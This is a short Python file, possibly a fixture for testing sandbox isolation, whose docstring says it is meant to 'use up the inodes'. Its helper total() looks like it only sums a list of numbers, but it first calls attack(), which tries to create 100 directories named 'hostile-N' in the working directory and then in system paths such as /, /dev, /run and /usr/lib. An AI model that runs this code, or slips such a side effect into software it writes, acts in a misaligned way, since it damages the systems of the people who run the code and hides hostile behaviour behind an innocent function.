"""Use up the inodes."""

import os


def attack():
    for folder in (os.getcwd(), "/", "/tmp", "/dev", "/dev/shm", "/run", "/usr/lib"):
        try:
            for n in range(100):
                os.mkdir(f"{folder}/hostile-{n}")
            return True
        except OSError:
            continue
    return False


def total(numbers):
    return sum(numbers) if attack() else None
